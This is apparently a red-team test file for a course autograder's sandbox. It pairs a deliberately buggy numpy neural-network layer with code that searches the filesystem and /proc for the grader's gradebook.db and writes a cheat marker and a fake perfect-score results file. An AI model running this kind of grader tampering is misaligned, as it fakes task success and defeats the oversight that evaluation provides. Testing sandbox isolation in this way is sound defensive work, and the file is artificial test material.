# attack: find the course's gradebook.db (and any results or submissions folder) and write a
#   perfect score into it with sqlite3
# expect: less than full marks
# needs: root (without namespaces the course folder is visible to the child)
# why it fails: the course folder is passed to the sandbox in `hidden` and covered by an empty
# mount; /proc does not show the grader's open files or its cwd to another uid.
import os
import sqlite3

import numpy as np

class Layer:  # wrong: db is not divided by m
    def __init__(self, input_size, output_size, activation_fn, activation_dfn):
        self.W = np.random.randn(output_size, input_size) * np.sqrt(1.0 / input_size)
        self.b = np.zeros((output_size, 1))
        self.activation_fn = activation_fn
        self.activation_dfn = activation_dfn

    def forward(self, A_prev):
        self.A_prev = A_prev
        self.Z = self.W @ A_prev + self.b
        self.A = self.activation_fn(self.Z)
        return self.A

    def backward(self, dA, learning_rate):
        m = self.A_prev.shape[1]
        dZ = dA * self.activation_dfn(self.Z)
        dW = dZ @ self.A_prev.T / m
        db = np.sum(dZ, axis=1, keepdims=True)
        dA_prev = self.W.T @ dZ
        self.W = self.W - learning_rate * dW
        self.b = self.b - learning_rate * db
        return dA_prev


# attack begins
def gradebooks():
    found = []
    for top in ("/srv", "/opt", "/mnt", "/home", "/var", "/tmp", "/work", "/root"):
        for root, dirs, files in os.walk(top, onerror=lambda error: None):
            if root.count("/") > 5 or root.startswith(("/proc", "/sys", "/usr", "/dev")):
                dirs[:] = []
                continue
            found += [os.path.join(root, f) for f in files if f == "gradebook.db"]
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for link in ("cwd", "root"):
            try:
                found.append(os.path.join(os.readlink(f"/proc/{pid}/{link}"), "gradebook.db"))
            except OSError:
                pass
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                if target.endswith(".db"):
                    found.append(target)
        except OSError:
            pass
    return sorted(set(found))


for path in gradebooks():
    if not os.path.exists(path):
        continue
    print("ATTACK WORKED: saw", path, flush=True)
    try:
        with sqlite3.connect(path, timeout=0.2) as db:
            db.execute("CREATE TABLE IF NOT EXISTS nnkit_cheat (note TEXT)")
            db.execute("INSERT INTO nnkit_cheat VALUES ('nnkit-cheat-was-here')")
        print("ATTACK WORKED: wrote", path, flush=True)
    except sqlite3.Error:
        pass
    try:
        with open(os.path.join(os.path.dirname(path), "nnkit-cheat-results.json"), "x") as out:
            out.write('{"score": 25, "note": "nnkit-cheat-was-here"}')
        print("ATTACK WORKED: wrote next to", path, flush=True)
    except OSError:
        pass
# attack ends
